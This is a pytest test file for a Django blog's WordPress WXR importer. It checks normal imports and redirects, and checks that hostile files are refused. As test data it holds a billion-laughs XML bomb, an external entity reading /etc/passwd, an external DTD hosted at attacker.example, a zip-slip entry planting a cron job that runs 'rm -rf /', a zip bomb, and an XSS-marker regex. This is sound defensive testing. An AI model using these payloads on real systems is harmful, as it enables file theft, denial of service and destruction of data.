"""Importing WordPress WXR exports, including hostile and broken XML."""

from __future__ import annotations

import re
import time
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from masthead.blog.models import Post, Tag
from masthead.exchange import services
from masthead.exchange.models import PathRedirect
from masthead.exchange.records import ImportRefused
from tests.exchange.media import png

pytestmark = pytest.mark.django_db

FIXTURE = Path(__file__).parent / "fixtures" / "wordpress.xml"
DANGER = re.compile(
    r"<script|onerror|onclick|javascript:|\[caption|\[gallery|\[embed|wp:paragraph", re.I
)


def uploads(root: Path) -> Path:
    for name in ("2023/01/shears.png", "2023/01/saw.png"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(png())
    return root


def test_posts_pages_terms_authors_and_images(tmp_path: Path) -> None:
    report = services.wordpress_import(path=FIXTURE, media=uploads(tmp_path / "uploads"))
    assert report.created["posts"] == 4 and report.created["authors"] == 2
    pruning = Post.objects.get(slug="winter-pruning")
    assert pruning.featured and pruning.status == Post.Status.PUBLISHED
    assert str(pruning.published_at) == "2023-01-14 09:15:00+00:00"
    assert [t.slug for t in pruning.ordered_tags] == ["pruning", "apples"]  # category first
    assert pruning.excerpt == "How to prune apple trees."
    assert pruning.hero_image and str(pruning.hero_image.name).startswith("imports/wordpress/")
    body = pruning.body
    assert "Cut on a **dry** day" in body and "## Tools" in body
    assert (
        "A pruning saw" in body
        and "[https://video.example/pruning](https://video.example/pruning)" in body
    )
    assert body.count("/media/imports/wordpress/") == 2
    assert not DANGER.search(body) and "tracker" not in body
    assert "rest" in body
    picking = Post.objects.get(slug="picking-and-storing")
    assert picking.title == "Picking & storing"
    assert str(picking.published_at) == "2023-09-30 15:00:00+00:00"  # +0200 in pubDate
    assert (
        "Classic editor text" in picking.body
        and "\n\nA second paragraph, *with emphasis*." in picking.body
    )
    assert [t.slug for t in picking.ordered_tags] == ["harvest", "apples"]
    assert Tag.objects.filter(slug="harvest").count() == 1
    assert Post.objects.get(slug="spring-draft").status == Post.Status.DRAFT
    assert not Post.objects.filter(slug="old-thing").exists()
    assert {p.display_name for p in pruning.author_profiles} == {"Hazel Ashdown"}  # multi-line name
    assert any("comments were not imported" in note for note in report.notes)
    assert any("nav_menu_item" in record for record, _ in report.skipped)


def test_old_permalinks_redirect(tmp_path: Path, client: Client) -> None:
    report = services.wordpress_import(path=FIXTURE)
    assert report.redirects >= 5
    for old, new in [
        ("/?p=101", "/winter-pruning/"),
        ("/2023/01/14/winter-pruning/", "/winter-pruning/"),
        ("/?page_id=7", "/about/"),
        ("/category/harvest/", "/tag/harvest/"),
        ("/?cat=4", "/tag/harvest/"),
    ]:
        response = client.get(old)
        assert response.status_code == 301, old
        assert response["Location"] == new
    assert client.get("/?p=99999").status_code == 200  # the home page, as before
    assert client.get("/2023/01/14/nothing/").status_code == 404
    assert not PathRedirect.objects.filter(old_path="/about/").exists()


def test_rerun_is_idempotent(tmp_path: Path) -> None:
    services.wordpress_import(path=FIXTURE)
    again = services.wordpress_import(path=FIXTURE)
    assert again.created == {} and again.unchanged["posts"] == 4 and again.redirects == 0
    assert Post.objects.count() == 4


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<rss><channel><wp:wxr_version xmlns:wp="http://wordpress.org/export/1.2/">1.2</wp:wxr_version><item><title>&c;</title></item></channel></rss>"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss><channel><item><title>&secret;</title></item></channel></rss>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
<rss><channel><item><title>x</title></item></channel></rss>"""


@pytest.mark.parametrize(
    ("content", "code", "words"),
    [
        (BILLION_LAUGHS, "unsafe_xml", "declares a DTD or XML entities"),
        (EXTERNAL, "unsafe_xml", "declares a DTD or XML entities"),
        (FIXTURE.read_text()[:4000], "bad_xml", "ends early"),
        (
            FIXTURE.read_bytes().replace(b"Forty trees", b"Forty \xff\xfe trees"),
            "bad_xml",
            "not valid UTF-8",
        ),
        ("<html><body>hello</body></html>", "not_an_export", "root element is <html>"),
        (
            '<rss version="2.0"><channel><title>Feed</title></channel></rss>',
            "not_an_export",
            "RSS feed",
        ),
        (
            FIXTURE.read_text().replace("<wp:wxr_version>1.2", "<wp:wxr_version>2.0"),
            "wrong_version",
            "WXR 2.0",
        ),
        (
            FIXTURE.read_text().replace("<![CDATA[rowan@orchard.example]]>", ""),
            "author_without_email",
            "'Rowan Pike' (login 'rowan')",
        ),
        (
            FIXTURE.read_text().replace(
                "<![CDATA[picking-and-storing]]>", "<![CDATA[winter-pruning]]>"
            ),
            "duplicate_slug",
            "post 'Picking & storing' (id 102)",
        ),
        ("", "bad_xml", "line 1"),
    ],
)
def test_bad_files_are_refused_whole(
    tmp_path: Path, content: str | bytes, code: str, words: str
) -> None:
    path = tmp_path / "export.xml"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(ImportRefused) as caught:
        services.wordpress_import(path=path)
    assert caught.value.code == code, caught.value.message
    assert words in caught.value.message
    assert (
        Post.objects.count() == 0 and Tag.objects.count() == 0 and PathRedirect.objects.count() == 0
    )


def test_external_dtd_is_never_fetched(tmp_path: Path) -> None:
    path = tmp_path / "export.xml"
    path.write_text(EXTERNAL_DTD)
    started = time.monotonic()
    with pytest.raises(ImportRefused):
        services.wordpress_import(path=path)
    assert time.monotonic() - started < 5


def test_large_file_is_streamed(tmp_path: Path) -> None:
    """A long export is read item by item: memory stays near the size of what is kept
    (the Markdown bodies), far below the parsed tree's (bench/exchange_import.py measures
    tens of MB)."""
    head, _, tail = FIXTURE.read_text().partition("<item>")
    item = "<item>" + tail.split("</item>")[0] + "</item>"
    path = tmp_path / "big.xml"
    with path.open("w") as out:
        out.write(head)
        n = 0
        while out.tell() < 3_000_000:
            out.write(
                item.replace("<wp:post_id>101", f"<wp:post_id>{1000 + n}").replace(
                    "winter-pruning]]", f"winter-pruning-{n}]]"
                )
            )
            n += 1
        out.write("</channel></rss>")
    from masthead.exchange import wordpress

    tracemalloc.start()
    bundle = wordpress.read(path)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert len(bundle.posts) == n
    assert peak < 2 * path.stat().st_size  # a parsed tree alone is several times the file


def test_zip_with_parent_paths_is_refused(tmp_path: Path) -> None:
    import zipfile

    path = tmp_path / "export.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("export.xml", FIXTURE.read_text())
        archive.writestr("../../etc/cron.d/evil", "* * * * * root rm -rf /")
    with pytest.raises(ImportRefused) as caught:
        services.wordpress_import(path=path)
    assert caught.value.code == "unsafe_archive" and "../../etc/cron.d/evil" in caught.value.message


def test_zip_bomb_is_stopped_at_the_limit(tmp_path: Path, settings: Any) -> None:
    import zipfile

    settings.MASTHEAD_IMPORT_MAX_UNPACKED = 50_000_000
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("export.xml", FIXTURE.read_text())
        for i in range(3):
            archive.writestr(f"zeros-{i}.bin", b"\0" * 20_000_000)
    assert path.stat().st_size < 200_000
    with pytest.raises(ImportRefused) as caught:
        services.wordpress_import(path=path)
    assert caught.value.code == "archive_too_large"


def test_zip_member_lying_about_its_size_is_stopped(tmp_path: Path) -> None:
    import zipfile

    from masthead.exchange import archive

    path = tmp_path / "liar.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("a.png", b"\0" * 1_000_000)
    raw = bytearray(path.read_bytes())
    # Rewrite the declared size (central directory) to 10 bytes; the data still inflates to 1 MB.
    central = raw.rindex(b"PK\x01\x02")
    raw[central + 24 : central + 28] = (10).to_bytes(4, "little")
    path.write_bytes(bytes(raw))
    opened = archive.open_zip(path)
    with pytest.raises((ImportRefused, zipfile.BadZipFile)):
        archive.read_member(opened, opened.infolist()[0])
